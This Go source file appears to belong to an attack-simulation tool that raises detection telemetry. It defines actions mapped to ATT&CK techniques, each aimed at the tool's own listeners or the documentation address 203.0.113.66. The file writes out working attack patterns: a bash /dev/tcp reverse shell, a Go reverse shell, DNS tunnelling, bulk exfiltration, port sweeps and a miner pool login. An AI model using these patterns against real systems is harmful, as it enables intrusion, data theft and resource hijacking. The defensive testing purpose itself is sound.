// SPDX-License-Identifier: Apache-2.0

package action

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

type conn = net.Conn

// dial connects to an address, which is this network's own whatever it is.
func dial(address string) (conn, error) { return net.DialTimeout("tcp", address, 2*time.Second) }

// listen accepts connections until the action is over, and handles one after the other.
func (s *scene) listen(address string, handle func(conn)) (string, error) {
	l, err := net.Listen("tcp", address)
	if err != nil {
		return "", err
	}
	s.after(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			handle(c)
		}
	}()
	return l.Addr().String(), nil
}

// outside is an address of the Internet that belongs to nobody (RFC 5737).
const outside = "203.0.113.66"

// contacts are services that attackers talk to, by name.
func contacts() map[string]string {
	return map[string]string{
		"metadata": "169.254.169.254:80", "kubelet": "10.0.0.1:10250", "etcd": "10.0.0.1:2379", "api_server": "10.0.0.1:6443",
		"docker": "10.0.0.1:2375", "miner_pool": outside + ":3333", "ssh": "10.0.0.2:22", "outside": outside + ":443",
	}
}

func connections() []*Action {
	return []*Action{
		{
			Name: "connect", Role: Attack, Techniques: []string{"T1552.005", "T1613", "T1610", "T1496.001", "T1021.004", "T1071"},
			Description: "A connection to a service that attackers talk to is made; the service is this action's own.",
			Parameters: []Parameter{choice("to", "the service", "metadata", "kubelet", "etcd", "api_server", "docker", "miner_pool",
				"ssh", "outside"), choice("by", "a program with the name of a tool runs, too", none, "curl"), shellBelow()},
			Needs: Needs{Programs: union(servers(), copies("curl"))}, act: contact,
		}, {
			Name: "runtime_socket", Role: Attack, Techniques: []string{"T1610", "T1611"},
			Description: "The socket of a container engine is talked to. The engine is this action's own, and does nothing.",
			act:         runtimeSocket,
		}, {
			Name: "reverse_shell", Role: Attack, Techniques: []string{"T1059.004", "T1071", "T1095"},
			Description: "A shell talks to the network, to nobody but this action.",
			Parameters: []Parameter{choice("by", "how the shell is connected: by whoever started it, or by itself (bash)", "socket",
				"bash")}, act: reverseShell,
		}, {
			Name: "scan_ports", Role: Attack, Techniques: []string{"T1046"},
			Description: "Many ports of one address are tried.", Parameters: []Parameter{count("ports", 300, 1, 10000)},
			act: func(s *scene) error {
				return times(s.number("count"), func(i int) error { try("127.0.0.1", 2000+i); return nil })
			},
		}, {
			Name: "sweep", Role: Attack, Techniques: []string{"T1018", "T1046", "T1021.004"},
			Description: "One port of many addresses is tried.",
			Parameters:  []Parameter{count("addresses", 120, 1, 10000), numeric("port", "the port", 8080, 1, 65535)},
			act: func(s *scene) error {
				address := netip.MustParseAddr("10.1.0.1")
				return times(s.number("count"), func(int) error {
					try(address.String(), s.number("port"))
					address = address.Next()
					return nil
				})
			},
		},
	}
}

// traffic is about packets, and more than a few bytes.
func traffic() []*Action {
	return []*Action{
		{
			Name: "raw_socket", Role: Attack, Techniques: []string{"T1040", "T1046", "T1095"},
			Description: "A socket for raw packets is opened.",
			Parameters:  []Parameter{choice("kind", "of which layer", "packet", "icmp")}, act: rawSocket,
		}, {
			Name: "tool_listens", Role: Attack, Techniques: []string{"T1571", "T1090", "T1059"},
			Description: "A tool for networks runs, and somebody listens.", Needs: Needs{Programs: copies("nc")},
			act: func(s *scene) error {
				if _, err := s.listen("0.0.0.0:4444", func(c conn) { _ = c.Close() }); err != nil {
					return err
				}
				return s.run("/usr/local/bin/nc")
			},
		}, {
			Name: "dns_tunnel", Role: Attack, Techniques: []string{"T1071.004", "T1048.003", "T1572"},
			Description: "Data leaves in names that a resolver, this action's own, is asked for.",
			Parameters:  []Parameter{count("queries", 120, 1, 10000), numeric("seconds", "the time that they take", 4, 1, 600)},
			act:         dnsTunnel,
		}, {
			Name: "spray_datagrams", Role: Attack, Techniques: []string{"T1498.002", "T1046"},
			Description: "Datagrams are sent to many addresses.", Parameters: []Parameter{count("datagrams", 4000, 1, 100000)},
			act: sprayDatagrams,
		}, {
			Name: "exfiltrate", Role: Attack, Techniques: []string{"T1041", "T1048"},
			Description: "A shell below a server starts, and data is sent to an address outside, where the action sink takes it.",
			Parameters:  []Parameter{numeric("mebibytes", "how much", 80, 1, 1000), shellBelow()},
			Needs:       Needs{Programs: servers(), Peer: "sink"}, act: exfiltrate,
		}, {
			Name: "miner", Role: Attack, Techniques: []string{"T1496.001", "T1571"},
			Description: "A program called like a miner keeps a processor busy and is connected to a pool, this action's own.",
			Parameters:  []Parameter{numeric("seconds", "how long", 5, 1, 900)},
			Needs:       Needs{Programs: map[string]string{"/usr/local/bin/xmrig": "/bin/sh"}}, act: mine,
		},
	}
}

func contact(s *scene) error {
	to, err := netip.ParseAddrPort(contacts()[s.Values["to"]])
	if err != nil {
		return err
	}
	if _, err := s.listen("0.0.0.0:"+strconv.Itoa(int(to.Port())), func(c conn) { _ = c.Close() }); err != nil {
		return err
	}
	if server := s.Values["below"]; server != none {
		if err := s.below(server, "true; true"); err != nil {
			return err
		}
	}
	if s.Values["by"] == "curl" {
		if err := s.run("/usr/local/bin/curl"); err != nil {
			return err
		}
	}
	c, err := dial(to.String())
	if err != nil {
		return err
	}
	return c.Close()
}

func runtimeSocket(s *scene) error {
	l, err := net.Listen("unix", "/run/docker.sock")
	if err != nil {
		return err
	}
	s.after(func() { _ = l.Close() })
	c, err := net.Dial("unix", "/run/docker.sock")
	if err != nil {
		return err
	}
	return c.Close()
}

func reverseShell(s *scene) error {
	address, err := s.listen("0.0.0.0:4445", func(c conn) {
		_, _ = c.Write([]byte("true\nexit\n"))
		s.after(func() { _ = c.Close() })
	})
	if err != nil {
		return err
	}
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		return err
	}
	if s.Values["by"] == "bash" {
		return s.run("/bin/bash", "-c", "exec 5<>/dev/tcp/"+outside+"/"+port+"; /bin/sh <&5 >&5 2>&5; true")
	}
	c, err := dial(net.JoinHostPort(outside, port))
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	tcp, ok := c.(*net.TCPConn)
	if !ok {
		return fmt.Errorf("no TCP connection: %T", c)
	}
	file, err := tcp.File()
	if err != nil {
		return err
	}
	defer func() { _ = file.Close() }()
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = file, file, file
	return cmd.Run()
}

// try connects to a port where nobody is likely to be.
func try(address string, port int) {
	if c, err := net.DialTimeout("tcp", net.JoinHostPort(address, strconv.Itoa(port)), time.Second); err == nil {
		_ = c.Close()
	}
}

func rawSocket(s *scene) error {
	family, protocol := unix.AF_PACKET, 0
	if s.Values["kind"] == "icmp" {
		family, protocol = unix.AF_INET, unix.IPPROTO_ICMP
	}
	fd, err := unix.Socket(family, unix.SOCK_RAW|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// query is a question for a name in which n bytes are hidden, n from 1 to 180.
func query(id uint16, n int) []byte {
	q := binary.BigEndian.AppendUint16(nil, id)
	q = append(q, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0) // recursion desired, one question
	for n > 0 {
		label := min(n, 60)
		q = append(q, byte(label))
		for i := range label {
			q = append(q, 'a'+byte((int(id)+i*7)%26))
		}
		n -= label
	}
	return append(append(q, "\x06tunnel\x07example\x00"...), 0, 16, 0, 1) // TXT, IN
}

func dnsTunnel(s *scene) error {
	server, err := net.ListenPacket("udp", "0.0.0.0:53")
	if err != nil {
		return err
	}
	s.after(func() { _ = server.Close() })
	go func() {
		for b := make([]byte, 512); ; {
			n, from, err := server.ReadFrom(b)
			if err != nil {
				return
			}
			b[2] |= 0x80 // a response
			_, _ = server.WriteTo(b[:n], from)
		}
	}()
	c, err := net.Dial("udp", "10.0.0.53:53")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	n := s.number("count")
	pause := s.seconds("seconds") / time.Duration(n)
	return times(n, func(i int) error {
		if _, err := c.Write(query(uint16(i), 90+i*7%80)); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(time.Second))
		_, _ = c.Read(make([]byte, 512))
		if i == n*2/3 {
			s.effect()
		}
		time.Sleep(pause)
		return nil
	})
}

func sprayDatagrams(s *scene) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	return times(s.number("count"), func(i int) error {
		to := &unix.SockaddrInet4{Port: 1900, Addr: [4]byte{10, 2, byte(i >> 8), byte(i)}}
		if err := unix.Sendto(fd, []byte("spray"), 0, to); err != nil && err != unix.ECONNREFUSED {
			return err
		}
		return nil
	})
}

func exfiltrate(s *scene) error {
	if err := s.below(s.Values["below"], "true; true"); err != nil {
		return err
	}
	c, err := dial(outside + ":8443")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	block := make([]byte, 1<<20)
	return times(s.number("mebibytes"), func(int) error { _, err := c.Write(block); return err })
}

func mine(s *scene) error {
	if _, err := s.listen("0.0.0.0:3333", func(c conn) { s.after(func() { _ = c.Close() }) }); err != nil {
		return err
	}
	cmd := exec.Command("/usr/local/bin/xmrig", "-c", "while :; do :; done")
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		return err
	}
	s.after(func() { _, _ = cmd.Process.Kill(), cmd.Wait() })
	c, err := dial(outside + ":3333")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Write([]byte(`{"method":"login","params":{"login":"nobody","pass":"x"}}` + "\n")); err != nil {
		return err
	}
	s.effect()
	time.Sleep(s.seconds("seconds"))
	return nil
}
